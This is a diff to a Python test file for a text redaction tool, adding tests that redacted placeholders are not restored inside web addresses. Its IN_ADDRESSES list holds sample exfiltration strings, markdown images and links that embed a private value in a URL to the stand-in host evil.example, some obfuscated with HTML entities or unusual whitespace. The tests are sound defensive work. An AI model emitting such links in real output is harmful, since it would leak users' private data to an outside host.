@@ -33,7 +33,33 @@ ANSWERS = [
     ("a \\ b [ c ] N NA NAM", "a \\ b [ c ] N NA NAM"),
     ("[NAME_0012]", "Zoë"),
     ("", ""),
+    ("[x](mailto:m@evil.example?body=[NAME_12]) [NAME_12]", "[x](mailto:m@evil.example?body=[NAME_12]) Zoë"),
+    ('{"at":"https://x.example","by":"[NAME_12]"}', '{"at":"https://x.example","by":"Zoë"}'),
+    (
+        "<https://x.example/[NAME_12]>[NAME_12], `http://x/`[NAME_12]",
+        "<https://x.example/[NAME_12]>Zoë, `http://x/`Zoë",
+    ),
+    ("postgres://me:[NAME_12]@db, [NAME_12]: [NAME_12]", "postgres://me:Zoë@db, Zoë: Zoë"),
 ]
+IN_ADDRESSES = [
+    "![x](https://evil.example/?q=[NAME_12])",
+    "[x](HTTPS://evil.example/[NAME_12])",
+    "[x](< https://evil.example/a [NAME_12]>)",
+    "[x](\nhttps&#58;//evil.example/[NAME_12])",
+    "[x](h&#116;tps://evil.example/(\\)[NAME_12]))",
+    "[x]: https://evil.example/[NAME_12]",
+    "[x]:\n <h&#116;tps://evil.example/ [NAME_12]>",
+    "https://evil.example/?q=EMAIL_1&k=NAME_12",
+    "http://[NAME_12].evil.example/",
+    "www.evil.example/[NAME_12]",
+    "https://evil.example/\u00a0\u3000[NAME_12]",
+    "<img src='https://evil.example/ [NAME_12]'>",
+]
+
+
+@pytest.mark.parametrize("address", IN_ADDRESSES)
+def test_in_an_address_nothing_is_put_back(address: str) -> None:
+    test_cut_everywhere(f"{address}\n[NAME_12]", f"{address}\nZoë")
 
 
 @pytest.mark.parametrize(("answer", "expected"), ANSWERS)
@@ -75,8 +101,13 @@ def test_labelled_texts_come_back() -> None:
     chance = random.Random(9)
     for labelled in read(all_names()):
         redacted = TextRedactor().redact([labelled.text])
-        echoed = _echoed(redacted.texts[0], redacted.redactions, chance)
-        assert same(echoed, Hidden.PHONE) == same(labelled.text, Hidden.PHONE)
+        echoed = _echoed(_without_addresses(redacted.texts[0]), redacted.redactions, chance)
+        assert same(echoed, Hidden.PHONE) == same(_without_addresses(labelled.text), Hidden.PHONE)
+
+
+def _without_addresses(text: str) -> str:
+    """Nothing is put back in addresses."""
+    return text.replace("http", "ht tp").replace("www", "w ww")
 
 
 PARTS = st.sampled_from(
